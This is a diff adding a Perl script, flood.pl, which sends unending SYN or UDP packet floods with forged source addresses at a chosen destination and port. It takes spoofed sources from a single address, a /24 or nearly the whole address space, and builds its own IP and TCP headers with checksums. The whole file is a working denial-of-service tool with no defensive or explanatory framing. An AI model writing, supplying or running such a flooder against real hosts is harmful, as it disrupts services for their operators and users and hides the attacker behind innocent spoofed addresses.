@@ -1,0 +1,38 @@
+# Packets with forged sources. `perl flood.pl KIND SOURCES DESTINATION PORT RATE`: KIND is syn or udp; SOURCES an address,
+# a /24 as 198.51.100.0/24, or `any`; RATE packets a second, without an end. Says `ready` after the first hundred.
+use strict;
+use warnings;
+use Socket;
+
+my ($kind, $sources, $destination, $port, $rate) = @ARGV;
+my ($base, $bits) = $sources eq 'any' ? ('1.0.0.0', 2) : ($sources =~ m{^([\d.]+)/(\d+)$}) ? ($1, $2) : ($sources, 32);
+my $first = unpack('N', inet_aton($base));
+my $span = 2**(32 - $bits);
+my $to = inet_aton($destination);
+socket(my $socket, PF_INET, SOCK_RAW, 255) or die "socket: $!";
+my $address = pack_sockaddr_in(0, $to);
+
+# What is for a hundredth of a second, then a pause of one: the smallest perl has no finer clock.
+my $sent = 0;
+while (1) {
+  for (1 .. $rate / 100) {
+    my $from = pack('N', $first + ($span == 1 ? 0 : int rand $span));
+    my $payload = $kind eq 'syn' ? syn($from) : udp();
+    my $protocol = $kind eq 'syn' ? 6 : 17;
+    my $ip = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $payload, 0, 0, 64, $protocol, 0, $from, $to);
+    send($socket, $ip . $payload, 0, $address);
+    if (++$sent == 100) { $| = 1; print "ready\n" }
+  }
+  select(undef, undef, undef, 0.01);
+}
+
+# The checksum of UDP may be left out; that of TCP is looked at.
+sub udp { return pack('nnnn', 1024 + int rand 60000, $port, 8, 0) }
+
+sub syn {
+  my ($from) = @_;
+  my @header = (1024 + int rand 60000, $port, int rand 2**32, 0, 0x5002, 64240);
+  my $sum = unpack('%32n*', $from . $to . pack('nn', 6, 20) . pack('nnNNnn', @header));
+  $sum = ($sum >> 16) + ($sum & 0xffff) for 1 .. 2;
+  return pack('nnNNnnnn', @header, ~$sum & 0xffff, 0);
+}
